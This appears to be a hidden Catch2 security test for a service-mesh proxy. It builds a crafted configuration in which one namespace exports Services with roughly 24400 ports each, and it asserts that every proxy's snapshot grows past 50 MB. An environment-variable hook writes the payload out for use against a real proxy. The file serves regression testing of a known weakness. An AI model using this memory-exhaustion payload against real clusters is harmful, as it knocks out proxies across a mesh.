// Proof of concept (attacker review of mTLS across namespaces): the admin of
// one meshed namespace fills outbound.otherNamespaces of EVERY other meshed
// namespace's document with Services of ~24400 ports each (the API server
// takes a 25000-port Service; manual EndpointSlices of 100 ports make each
// port "ready"). Under the 1 MiB ConfigMap limit, each port of each cluster IP
// becomes two map entries in the snapshot (one with a "name.namespace:port"
// label, one for its identity), in every proxy of the mesh; a reload holds
// two snapshots. Hidden ([.]): it asserts the weakness, and fails
// once it is fixed.

#include <malloc.h>

#include <catch2/catch.hpp>
#include <cstdlib>
#include <fstream>
#include <string>

#include "proxy/config/snapshot.h"
#include "test/unit/proxy/test_documents.h"
#include "weft/constants.h"

using namespace weft::proxy;
namespace pc = weft::proxyconfig;

namespace {

std::size_t heap_in_use() {
  const struct mallinfo2 info = mallinfo2();
  return info.uordblks + info.hblkhd;
}

std::size_t high_water_kib() {
  std::ifstream status("/proc/self/status");
  std::string line;
  while (std::getline(status, line)) {
    if (line.starts_with("VmHWM:")) return std::stoul(line.substr(6));
  }
  return 0;
}

}  // namespace

TEST_CASE("attack: one namespace's exports cost every proxy of the mesh >50 MB per snapshot",
          "[.][attack][mtls]") {
  auto document = weft::proxy::testing::routed_document();
  document.identity = pc::IdentityConfig{
      "cluster.local", "-----BEGIN CERTIFICATE-----\nAA==\n-----END CERTIFICATE-----\n"};
  // A long (valid) ServiceAccount name: the identity is copied per entry.
  const std::string account = std::string(63, 'a') + "." + std::string(63, 'b') + "." +
                              std::string(63, 'c') + "." + std::string(50, 'd');
  for (int s = 0; s < 7; ++s) {
    pc::MeshedService service{
        .ns = "evil",
        .name = "s" + std::to_string(s),
        // Dual-stack: two cluster IPs, twice the entries for a few more bytes.
        .cluster_ips = {"10.96.66." + std::to_string(s + 1), "fd00::66:" + std::to_string(s + 1)},
        .ports = {},
        .identity = "spiffe://cluster.local/ns/evil/sa/" + account};
    for (int port = 10000; port < 34400; ++port) {
      service.ports.push_back(static_cast<std::uint16_t>(port));
    }
    document.outbound.other_namespaces.push_back(std::move(service));
  }
  const std::string text = pc::serialize(document).text;
  INFO("document bytes: " << text.size());
  REQUIRE(text.size() + weft::kProxyConfigKey.size() <= weft::kProxyConfigMaxBytes);
  // WEFT_ATTACK_DOCUMENT=<path>: the document, for a real weft-proxy (--config).
  // <path>.2: the next document after the attacker renamed one Service (a reload).
  if (const char* path = std::getenv("WEFT_ATTACK_DOCUMENT")) {
    std::ofstream(path) << text;
    auto next = document;
    next.outbound.other_namespaces.back().name = "renamed";
    std::ofstream(std::string(path) + ".2") << pc::serialize(next).text;
  }

  const std::size_t before = heap_in_use();
  auto parsed = pc::parse(text);
  REQUIRE(parsed.has_value());
  auto snapshot = Snapshot::build(std::move(*parsed), text);
  REQUIRE(snapshot.has_value());
  const std::size_t with_snapshot = heap_in_use();
  CHECK((*snapshot)->identity_of(tcp::endpoint(asio::ip::make_address("fd00::66:7"), 34399)) ==
        "spiffe://cluster.local/ns/evil/sa/" + account);

  const double snapshot_mb = static_cast<double>(with_snapshot - before) / 1e6;
  WARN("document " << text.size() << " bytes, " << (*snapshot)->other_namespaces().size()
                   << " (address, port) entries; snapshot " << snapshot_mb << " MB; VmHWM "
                   << high_water_kib() / 1024 << " MiB (the sidecar's default limit: 256 MiB)");
  CHECK(snapshot_mb > 50);
}
